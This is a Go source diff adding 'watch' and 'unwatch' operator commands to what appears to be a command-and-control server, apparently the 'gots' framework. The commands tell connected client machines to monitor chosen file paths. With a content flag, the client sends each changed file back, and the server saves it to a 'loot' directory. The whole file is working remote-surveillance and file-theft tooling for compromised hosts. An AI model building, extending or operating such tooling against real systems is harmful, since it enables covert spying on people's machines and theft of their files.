@@ -0,0 +1,112 @@
+package main
+
+import (
+	"fmt"
+	"log"
+	"os"
+
+	"github.com/frjcomp/gots/pkg/protocol"
+	"github.com/frjcomp/gots/pkg/server"
+)
+
+// contentFlag makes watch send the new content of changed files.
+const contentFlag = "--content"
+
+// watchRegistry is implemented by listeners that track file watches.
+type watchRegistry interface {
+	AddWatch(clientAddr, path string, content bool) server.Watch
+	DropWatch(id string) (server.Watch, bool)
+	Watches() []server.Watch
+}
+
+// reportWatchEvent notifies the operator of a change to a watched path. New
+// content is saved in the loot directory like a download.
+func reportWatchEvent(l server.ListenerInterface) func(server.WatchEvent) {
+	return func(e server.WatchEvent) {
+		note := ""
+		if e.Content != nil {
+			path, err := downloadTarget(l, e.ClientAddr, e.Path, "")
+			if err == nil {
+				err = os.WriteFile(path, e.Content, 0o600)
+			}
+			if err != nil {
+				note = fmt.Sprintf(" (content not saved: %v)", err)
+			} else {
+				note = " (content saved to " + path + ")"
+			}
+		}
+		log.Printf("[!] Watch %s on %s: %s %s%s", e.ID, clientLabel(l, e.ClientAddr), e.Path, e.Kind, note)
+	}
+}
+
+// handleWatch starts watching a path on a client, or lists the watches.
+func handleWatch(l server.ListenerInterface, args []string) {
+	reg, ok := l.(watchRegistry)
+	if !ok {
+		fmt.Println("Error: this listener cannot watch files")
+		return
+	}
+	if len(args) == 0 {
+		watches := reg.Watches()
+		if len(watches) == 0 {
+			fmt.Println("No watches")
+			return
+		}
+		for _, w := range watches {
+			content := ""
+			if w.Content {
+				content = " (with content)"
+			}
+			fmt.Printf("  %-4s %s  %s%s\n", w.ID, clientLabel(l, w.ClientAddr), w.Path, content)
+		}
+		return
+	}
+
+	args, content := splitFlags(args, contentFlag)
+	if len(args) != 2 {
+		fmt.Println("Usage: watch [--content] <client_id> <path>")
+		return
+	}
+	clientAddr := getClientByID(l, args[0])
+	if clientAddr == "" || !requireCapability(l, clientAddr, protocol.CapWatch) {
+		return
+	}
+	w := reg.AddWatch(clientAddr, args[1], len(content) > 0)
+	cmd := fmt.Sprintf("%s %s %s", protocol.CmdWatch, w.ID, w.Path)
+	if w.Content {
+		cmd = fmt.Sprintf("%s %s %s=1 %s", protocol.CmdWatch, w.ID, protocol.OptContent, w.Path)
+	}
+	runScheduled(l, clientAddr, []string{server.ResponseKey}, func() {
+		if err := sendExpectOK(l, clientAddr, cmd); err != nil {
+			reg.DropWatch(w.ID)
+			fmt.Printf("Error: %v\n", err)
+			return
+		}
+		fmt.Printf("Watching %s on %s as %s; stop with: unwatch %s\n", w.Path, clientLabel(l, clientAddr), w.ID, w.ID)
+	})
+}
+
+// handleUnwatch stops a watch.
+func handleUnwatch(l server.ListenerInterface, args []string) {
+	reg, ok := l.(watchRegistry)
+	if !ok {
+		fmt.Println("Error: this listener cannot watch files")
+		return
+	}
+	if len(args) != 1 {
+		fmt.Println("Usage: unwatch <watch_id>")
+		return
+	}
+	w, ok := reg.DropWatch(args[0])
+	if !ok {
+		fmt.Printf("Error: no watch %s\n", args[0])
+		return
+	}
+	runScheduled(l, w.ClientAddr, []string{server.ResponseKey}, func() {
+		if err := sendExpectOK(l, w.ClientAddr, protocol.CmdUnwatch+" "+w.ID); err != nil {
+			fmt.Printf("Error: %v\n", err)
+			return
+		}
+		fmt.Printf("Stopped watch %s\n", w.ID)
+	})
+}